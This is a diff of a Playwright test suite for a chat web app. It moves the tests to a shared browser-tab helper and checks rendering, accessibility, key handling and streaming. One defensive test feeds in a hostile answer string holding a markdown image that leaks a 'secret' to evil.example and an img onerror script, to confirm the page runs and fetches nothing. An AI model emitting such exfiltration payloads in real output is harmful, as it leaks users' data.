@@ -16,19 +16,19 @@ from typing import Any
 import pytest
 
 from tests.chatting import Body, chatting
+from tests.chromium import PROGRAM, Tabs, chromium
 from tests.conftest import end, running
 from tests.documents import pdf
 from tests.films import scenes
 from tests.server.test_keys import added
 from tests.waiting import PATIENCE_S, slow_model, until
 
-CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
 NODE = shutil.which("node")
 SAMPLES = Path(__file__).parents[2] / "samples"
 PARTS = ("Chat", "Compare", "Narrate")
 
 pytestmark = [
-    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed"),
+    pytest.mark.skipif(PROGRAM is None, reason="Chromium is not installed"),
 ]
 
 
@@ -39,40 +39,52 @@ def server() -> Iterator[str]:
 
 
 @pytest.fixture(scope="module")
-def browser() -> Iterator[Any]:
-    from playwright.sync_api import sync_playwright
-
-    with sync_playwright() as playwright:
-        made = playwright.chromium.launch(
-            executable_path=CHROMIUM,
-            args=[
-                "--no-sandbox", "--autoplay-policy=no-user-gesture-required",
-                "--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream",
-            ],
-        )  # fmt: skip
-        yield made
-        made.close()
+def tabs() -> Iterator[Tabs]:
+    flags = (
+        "--autoplay-policy=no-user-gesture-required",
+        "--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream",
+    )  # fmt: skip
+    with chromium(*flags) as browser:
+        yield Tabs(browser)
 
 
 @contextmanager
-def opened(browser: Any, url: str, width: int = 1280, **options: Any) -> Iterator[Any]:
-    """Open the page at a server; see that nothing went elsewhere, broke or was held up."""
+def opened(
+    tabs: Tabs,
+    url: str,
+    width: int = 1280,
+    *,
+    scheme: str = "light",
+    motion: str = "reduce",
+    **options: Any,
+) -> Iterator[Any]:
+    """Open the page at a server; see that nothing went elsewhere, broke or was held up.
+
+    What needs `options` of its own is opened in a tab of its own.
+    """
     # What moves while an answer is waited for is drawn sixty times a second, without a graphics card.
-    still = {"reduced_motion": "reduce", "viewport": {"width": width, "height": 860}}
-    context = browser.new_context(**{**still, **options})
-    page = context.new_page()
-    page.set_default_timeout(1000 * PATIENCE_S)
+    still = {"reduced_motion": motion, "color_scheme": scheme}
+    size = {"width": width, "height": 860}
+    taken = tabs.own(**{**still, "viewport": size, **options}) if options else tabs.emptied(
+        url, size, **still
+    )  # fmt: skip
     outside: list[str] = []
     wrong: list[str] = []
-    page.on("request", lambda r: outside.append(r.url) if not _is_own(r.url) else None)
-    page.on("pageerror", lambda error: wrong.append(str(error)))
-    page.on("console", lambda m: wrong.append(m.text) if "Policy" in m.text else None)
-    page.goto(f"{url}/")
-    page.locator(".composer select option").first.wait_for(state="attached")
-    yield page
-    assert outside == []
-    assert wrong == []
-    context.close()
+    watched = {
+        "request": lambda r: outside.append(r.url) if not _is_own(r.url) else None,
+        "pageerror": lambda error: wrong.append(str(error)),
+        "console": lambda m: wrong.append(m.text) if "Policy" in m.text else None,
+    }
+    with taken as page:
+        for event, note in watched.items():
+            page.on(event, note)
+        page.goto(f"{url}/")
+        page.locator(".composer select option").first.wait_for(state="attached")
+        yield page
+        for event, note in watched.items():
+            page.remove_listener(event, note)
+        assert outside == []
+        assert wrong == []
 
 
 def _is_own(url: str) -> bool:
@@ -80,8 +92,8 @@ def _is_own(url: str) -> bool:
 
 
 @pytest.fixture
-def page(browser: Any, server: str) -> Iterator[Any]:
-    with opened(browser, server) as made:
+def page(tabs: Tabs, server: str) -> Iterator[Any]:
+    with opened(tabs, server) as made:
         yield made
 
 
@@ -330,10 +342,10 @@ def test_json_by_attributes(page: Any) -> None:
 
 
 def test_what_is_decided_is_as_likely_as_its_bar(
-    browser: Any, server: str, tmp_path: Path, pictured: Callable[[Any, str], None]
+    tabs: Tabs, server: str, tmp_path: Path, pictured: Callable[[Any, str], None]
 ) -> None:
     options: dict[str, Any] = {"permissions": ["clipboard-read", "clipboard-write"]}
-    with opened(browser, server, **options) as page:
+    with opened(tabs, server, **options) as page:
         film = scenes(tmp_path / "film.mp4")
         brought(page, SAMPLES / "coffee.jpg", film)
         page.get_by_role("button", name="As text").click()
@@ -424,10 +436,12 @@ def test_a_long_pdf_is_drawn_where_it_is_seen(page: Any, tmp_path: Path) -> None
     file = tmp_path / "long.pdf"
     file.write_bytes(pdf(*([f"Page {number}"] for number in range(1, 101))))
     drawn: list[int] = []
-    page.on(
-        "request",
-        lambda r: drawn.extend(r.post_data_json["pages"]) if "/documents/" in r.url else None,
-    )
+
+    def note(request: Any) -> None:
+        if "/documents/" in request.url:
+            drawn.extend(request.post_data_json["pages"])
+
+    page.on("request", note)
     brought(page, file)
     page.locator(".facts").get_by_text("100 pages").wait_for()
     page.get_by_alt_text("Page 1 of long.pdf").wait_for()
@@ -436,6 +450,7 @@ def test_a_long_pdf_is_drawn_where_it_is_seen(page: Any, tmp_path: Path) -> None
     page.get_by_alt_text("Page 100 of long.pdf").wait_for()
     last.locator("img").wait_for()
     assert page.get_by_role("button", name="Page 50").locator("img").count() == 0
+    page.remove_listener("request", note)
     assert len(set(drawn)) < 60
     asked(page, "Which page is the last?")  # which goes on for as long as it reads them all
     page.get_by_role("button", name="Stop").click()
@@ -575,9 +590,9 @@ def test_two_answers_side_by_side(page: Any) -> None:
     assert '"model": "gpt-4o"' in page.locator(".code").inner_text()
 
 
-def test_the_request_works_when_it_is_pasted(browser: Any, server: str, tmp_path: Path) -> None:
+def test_the_request_works_when_it_is_pasted(tabs: Tabs, server: str, tmp_path: Path) -> None:
     options: dict[str, Any] = {"permissions": ["clipboard-read", "clipboard-write"]}
-    with opened(browser, server, **options) as page:
+    with opened(tabs, server, **options) as page:
         brought(page, SAMPLES / "receipt.png")
         asked(page, 'What is the total? `$HOME` \\ "it\'s"')
         answer(page)
@@ -599,11 +614,11 @@ def test_the_request_works_when_it_is_pasted(browser: Any, server: str, tmp_path
 
 
 def test_the_request_of_a_narration_works_where_its_film_lies(
-    browser: Any, server: str, tmp_path: Path
+    tabs: Tabs, server: str, tmp_path: Path
 ) -> None:
     shutil.copy(SAMPLES / "film.mp4", tmp_path / 'it\'s "a" film.mp4')
     options: dict[str, Any] = {"permissions": ["clipboard-read", "clipboard-write"]}
-    with opened(browser, server, **options) as page:
+    with opened(tabs, server, **options) as page:
         page.get_by_role("button", name="Narrate").click()
         brought(page, tmp_path / 'it\'s "a" film.mp4')
         page.get_by_label("Style").fill('It\'s "short".')
@@ -630,13 +645,10 @@ def test_the_request_of_a_narration_works_where_its_film_lies(
         made.unlink()
 
 
-def test_the_key_that_is_typed_in_is_sent(browser: Any, tmp_path: Path) -> None:
+def test_the_key_that_is_typed_in_is_sent(tabs: Tabs, tmp_path: Path) -> None:
     key = added(tmp_path, "alice")
     flags = ("--keys", "required", "--keys-file", str(tmp_path / "keys.sqlite"))
-    with running(*flags) as url:
-        context = browser.new_context()
-        page = context.new_page()
-        page.set_default_timeout(1000 * PATIENCE_S)
+    with running(*flags) as url, tabs.own() as page:
         page.goto(url.removesuffix("/v1") + "/")
         for typed in ("wrong", key):
             page.get_by_role("button", name="Enter the key").click()
@@ -649,11 +661,10 @@ def test_the_key_that_is_typed_in_is_sent(browser: Any, tmp_path: Path) -> None:
         page.locator(".composer select option").first.wait_for(state="attached")
         stored = page.evaluate("JSON.stringify(localStorage)")
         assert key not in stored
-        context.close()
 
 
-def test_history_is_off_until_it_is_wanted(browser: Any, server: str) -> None:
-    with opened(browser, server) as page:
+def test_history_is_off_until_it_is_wanted(tabs: Tabs, server: str) -> None:
+    with opened(tabs, server) as page:
         page.get_by_role("button", name=re.compile("^A chart")).click()
         answer(page)
         page.get_by_role("button", name="New conversation").click()
@@ -691,8 +702,8 @@ def test_history_is_off_until_it_is_wanted(browser: Any, server: str) -> None:
         until(lambda: page.evaluate(kept) == 0)
 
 
-def test_a_document_whose_pages_were_looked_at_is_kept(browser: Any, server: str) -> None:
-    with opened(browser, server) as page:
+def test_a_document_whose_pages_were_looked_at_is_kept(tabs: Tabs, server: str) -> None:
+    with opened(tabs, server) as page:
         page.get_by_role("button", name="History").click()
         page.get_by_role("checkbox").check()
         page.keyboard.press("Escape")
@@ -710,13 +721,14 @@ def test_a_document_whose_pages_were_looked_at_is_kept(browser: Any, server: str
 
 @contextmanager
 def alone(base_url: str) -> Iterator[str]:
-    """`sightline playground` before another server; give where it is."""
-    with _alone(base_url) as (url, _):
-        yield url
+    """What `sightline playground` serves before another server; give where it is."""
+    with running("--engine", "upstream", "--upstream-url", base_url) as url:
+        yield url.removesuffix("/v1")
 
 
 @contextmanager
-def _alone(base_url: str) -> Iterator[tuple[str, subprocess.Popen[str]]]:
+def commanded(base_url: str) -> Iterator[tuple[str, subprocess.Popen[str]]]:
+    """The command itself; give where it serves, and its process."""
     process = subprocess.Popen(
         [sys.executable, "-m", "sightline.cli.main", "playground", "--port", "0", "--base-url",
          base_url, "--json"],
@@ -740,8 +752,8 @@ HOSTILE = """Look: ![a](http://evil.example/leak.png?q=secret) <img src=x onerro
 """
 
 
-def test_an_answer_cannot_run_or_fetch_anything(browser: Any) -> None:
-    with chatting(lambda body: HOSTILE, "other") as base, alone(base) as url, opened(browser, url) as page:  # fmt: skip
+def test_an_answer_cannot_run_or_fetch_anything(tabs: Tabs) -> None:
+    with chatting(lambda body: HOSTILE, "other") as base, alone(base) as url, opened(tabs, url) as page:  # fmt: skip
         page.get_by_label("Model").select_option("other")
         asked(page, "Hello")
         said = answer(page)
@@ -754,8 +766,8 @@ def test_an_answer_cannot_run_or_fetch_anything(browser: Any) -> None:
         assert page.title() == "Sightline"
 
 
-def test_stopping_ends_the_work_behind_it(browser: Any) -> None:
-    with slow_model() as slow, alone(slow.url) as url, opened(browser, url) as page:
+def test_stopping_ends_the_work_behind_it(tabs: Tabs) -> None:
+    with slow_model() as slow, alone(slow.url) as url, opened(tabs, url) as page:
         page.get_by_label("Model").select_option("slow")
         asked(page, "Wait")
         slow.wait()
@@ -768,18 +780,18 @@ def test_stopping_ends_the_work_behind_it(browser: Any) -> None:
         page.get_by_text("re: Wait").wait_for()
 
 
-def test_what_another_server_refuses_is_a_sentence(browser: Any) -> None:
+def test_what_another_server_refuses_is_a_sentence(tabs: Tabs) -> None:
     def refuse(body: Body) -> tuple[int, Body]:
         return 400, {"message": "That is too rude.", "code": "refused"}
 
-    with chatting(refuse, "other") as base, alone(base) as url, opened(browser, url) as page:
+    with chatting(refuse, "other") as base, alone(base) as url, opened(tabs, url) as page:
         page.get_by_label("Model").select_option("other")
         asked(page, "Hello")
         assert answer(page).get_by_role("alert").inner_text().strip()
         page.get_by_role("button", name="Retry").wait_for()
 
 
-def test_an_answer_that_no_page_can_lay_out_is_shown_as_it_came(browser: Any) -> None:
+def test_an_answer_that_no_page_can_lay_out_is_shown_as_it_came(tabs: Tabs) -> None:
     deep = {
         "quotes": ">" * 20_000 + " said",
         "long": "word " * 200_000,
@@ -789,7 +801,7 @@ def test_an_answer_that_no_page_can_lay_out_is_shown_as_it_came(browser: Any) ->
     def told(body: Body) -> str:
         return deep[body["messages"][-1]["content"].split()[0]]
 
-    with chatting(told, "other") as base, alone(base) as url, opened(browser, url) as page:
+    with chatting(told, "other") as base, alone(base) as url, opened(tabs, url) as page:
         page.get_by_label("Model").select_option("other")
         asked(page, "quotes")
         assert ">>>>" in answer(page).inner_text()
@@ -820,42 +832,39 @@ def test_what_is_no_answer_of_the_api_is_a_sentence(page: Any, body: str, told: 
     answer(page).get_by_text(told).wait_for()
 
 
-def test_a_browser_that_keeps_nothing_has_the_page_all_the_same(browser: Any, server: str) -> None:
+def test_a_browser_that_keeps_nothing_has_the_page_all_the_same(tabs: Tabs, server: str) -> None:
     """As with all cookies blocked."""
-    context = browser.new_context()
-    context.add_init_script(
-        """for (const name of ["localStorage", "sessionStorage", "indexedDB"]) {
-            Object.defineProperty(window, name, { get() { throw new DOMException("", "SecurityError"); } });
-        }"""
-    )
-    page = context.new_page()
-    page.set_default_timeout(1000 * PATIENCE_S)
-    wrong: list[str] = []
-    page.on("pageerror", lambda error: wrong.append(str(error)))
-    page.goto(f"{server}/")
-    page.locator(".composer select option").first.wait_for(state="attached")
-    page.get_by_role("button", name="History").click()
-    page.get_by_role("checkbox").click()
-    page.get_by_role("alert").get_by_text("This browser does not keep").wait_for()
-    assert not page.get_by_role("checkbox").is_checked()
-    page.keyboard.press("Escape")
-    page.get_by_role("button", name="Settings").click()
-    page.get_by_role("button", name="Dark").click()
-    page.get_by_label("API key").fill("ключ")  # which no header holds
-    page.get_by_role("button", name="Done").click()
-    page.get_by_role("alert").get_by_text("A key is of letters without accents").wait_for()
-    page.get_by_role("button", name="Enter the key").click()
-    page.get_by_label("API key").fill("any")
-    page.get_by_role("button", name="Done").click()
-    page.get_by_role("alert").wait_for(state="detached")
-    page.get_by_role("button", name="Add by URL").click()
-    page.get_by_role("textbox", name="Address of a picture").fill(
-        "https://example.invalid/100%.jpg"
-    )
-    page.get_by_role("button", name="Add", exact=True).click()
-    page.locator(".composer").get_by_role("button", name="Open 100%.jpg").wait_for()
-    assert wrong == []
-    context.close()
+    with tabs.own() as page:
+        page.add_init_script(
+            """for (const name of ["localStorage", "sessionStorage", "indexedDB"]) {
+                Object.defineProperty(window, name, { get() { throw new DOMException("", "SecurityError"); } });
+            }"""
+        )
+        wrong: list[str] = []
+        page.on("pageerror", lambda error: wrong.append(str(error)))
+        page.goto(f"{server}/")
+        page.locator(".composer select option").first.wait_for(state="attached")
+        page.get_by_role("button", name="History").click()
+        page.get_by_role("checkbox").click()
+        page.get_by_role("alert").get_by_text("This browser does not keep").wait_for()
+        assert not page.get_by_role("checkbox").is_checked()
+        page.keyboard.press("Escape")
+        page.get_by_role("button", name="Settings").click()
+        page.get_by_role("button", name="Dark").click()
+        page.get_by_label("API key").fill("ключ")  # which no header holds
+        page.get_by_role("button", name="Done").click()
+        page.get_by_role("alert").get_by_text("A key is of letters without accents").wait_for()
+        page.get_by_role("button", name="Enter the key").click()
+        page.get_by_label("API key").fill("any")
+        page.get_by_role("button", name="Done").click()
+        page.get_by_role("alert").wait_for(state="detached")
+        page.get_by_role("button", name="Add by URL").click()
+        page.get_by_role("textbox", name="Address of a picture").fill(
+            "https://example.invalid/100%.jpg"
+        )
+        page.get_by_role("button", name="Add", exact=True).click()
+        page.locator(".composer").get_by_role("button", name="Open 100%.jpg").wait_for()
+        assert wrong == []
 
 
 def test_files_are_taken_for_what_they_are(page: Any, tmp_path: Path) -> None:
@@ -897,7 +906,7 @@ def test_a_film_that_is_dropped_while_one_is_narrated_takes_its_place(
     assert page.get_by_role("textbox", name="Text from").count() == 0
 
 
-def test_a_server_that_goes_in_mid_stream_is_told_of(browser: Any) -> None:
+def test_a_server_that_goes_in_mid_stream_is_told_of(tabs: Tabs) -> None:
     gone = threading.Event()
 
     def half(_: Body) -> Iterator[str]:
@@ -906,8 +915,8 @@ def test_a_server_that_goes_in_mid_stream_is_told_of(browser: Any) -> None:
 
     with (
         chatting(half, "other") as base,
-        _alone(base) as (url, process),
-        opened(browser, url) as page,
+        commanded(base) as (url, process),
+        opened(tabs, url) as page,
     ):
         page.get_by_label("Model").select_option("other")
         asked(page, "Hello")
@@ -925,7 +934,7 @@ def test_a_server_that_goes_in_mid_stream_is_told_of(browser: Any) -> None:
         page.get_by_role("alert").get_by_text("The server cannot be reached.").wait_for()
 
 
-def test_a_very_long_answer_from_right_to_left(browser: Any) -> None:
+def test_a_very_long_answer_from_right_to_left(tabs: Tabs) -> None:
     said = "هذا نص طويل."
 
     def told(_: Body) -> Iterator[str]:
@@ -933,7 +942,7 @@ def test_a_very_long_answer_from_right_to_left(browser: Any) -> None:
             yield f"- {number} {'x' * 200}\n"
         yield f"\n\n{said}"
 
-    with chatting(told, "other") as base, alone(base) as url, opened(browser, url, 360) as page:
+    with chatting(told, "other") as base, alone(base) as url, opened(tabs, url, 360) as page:
         page.get_by_label("Model").select_option("other")
         asked(page, said)
         shown = answer(page)
@@ -991,10 +1000,8 @@ def test_the_way_back_leads_to_the_part_before(page: Any) -> None:
     until(lambda: current.inner_text() == "Chat")
 
 
-def test_two_tabs_keep_apart_what_is_asked_and_share_what_is_kept(
-    browser: Any, server: str
-) -> None:
-    with opened(browser, server) as page:
+def test_two_tabs_keep_apart_what_is_asked_and_share_what_is_kept(tabs: Tabs, server: str) -> None:
+    with opened(tabs, server) as page:
         page.get_by_role("button", name="History").click()
         page.get_by_role("checkbox").check()
         page.keyboard.press("Escape")
@@ -1016,9 +1023,9 @@ def _kept_titles(page: Any) -> list[str]:
     return titles
 
 
-def test_a_text_is_copied_where_the_page_has_no_clipboard(browser: Any, server: str) -> None:
+def test_a_text_is_copied_where_the_page_has_no_clipboard(tabs: Tabs, server: str) -> None:
     """As over plain HTTP from another machine."""
-    with opened(browser, server) as page:
+    with opened(tabs, server) as page:
         page.evaluate("delete Navigator.prototype.clipboard")
         page.get_by_role("button", name=re.compile("^A chart")).click()
         answer(page).get_by_role("button", name="Copy").click()
@@ -1028,9 +1035,9 @@ def test_a_text_is_copied_where_the_page_has_no_clipboard(browser: Any, server: 
         assert "April" in field.input_value()
 
 
-def test_at_twice_the_size_everything_is_reached(browser: Any, server: str) -> None:
+def test_at_twice_the_size_everything_is_reached(tabs: Tabs, server: str) -> None:
     zoomed: dict[str, Any] = {"viewport": {"width": 640, "height": 430}, "device_scale_factor": 2}
-    with opened(browser, server, **zoomed) as page:
+    with opened(tabs, server, **zoomed) as page:
         for part in PARTS:
             page.get_by_role("button", name=part, exact=True).click()
             accessible(page, part)
@@ -1095,9 +1102,9 @@ FORMS = [(360, "light"), (360, "dark"), (1280, "light"), (1280, "dark"), (1600, 
 
 
 @pytest.mark.parametrize(("width", "scheme"), FORMS)
-def test_everybody_can_use_it(browser: Any, server: str, width: int, scheme: str) -> None:
+def test_everybody_can_use_it(tabs: Tabs, server: str, width: int, scheme: str) -> None:
     dark = scheme == "dark"
-    with opened(browser, server, width, color_scheme=scheme) as page:
+    with opened(tabs, server, width, scheme=scheme) as page:
         accessible(page, "first", dark=dark)
         page.get_by_role("button", name=re.compile("^A receipt as JSON")).click()
         said = answer(page)
@@ -1117,10 +1124,10 @@ def test_everybody_can_use_it(browser: Any, server: str, width: int, scheme: str
             accessible(page, part, dark=dark)
 
 
-def test_nothing_jumps(browser: Any, server: str) -> None:
+def test_nothing_jumps(tabs: Tabs, server: str) -> None:
     """What was laid out stays where it is, from the first paint to the answer."""
     for width in (360, 1280):
-        with opened(browser, server, width) as page:
+        with opened(tabs, server, width) as page:
             page.get_by_role("button", name=re.compile("^A chart")).click()
             answer(page)
             for part in (*PARTS[1:], *PARTS[:1]):
@@ -1212,10 +1219,10 @@ def test_a_film_is_narrated_by_keyboard_alone(page: Any) -> None:
     assert page.evaluate(_FOCUSED)[0].startswith(("Text from", "Add a text"))
 
 
-def test_motion_is_left_out_where_that_is_wanted(browser: Any) -> None:
+def test_motion_is_left_out_where_that_is_wanted(tabs: Tabs) -> None:
     with slow_model() as slow, alone(slow.url) as url:
         for wanted, moves in (("reduce", "none"), ("no-preference", "pulse")):
-            with opened(browser, url, reduced_motion=wanted) as page:
+            with opened(tabs, url, motion=wanted) as page:
                 page.get_by_label("Model").select_option("slow")
                 asked(page, "Wait")
                 dot = page.locator(".waiting i").first
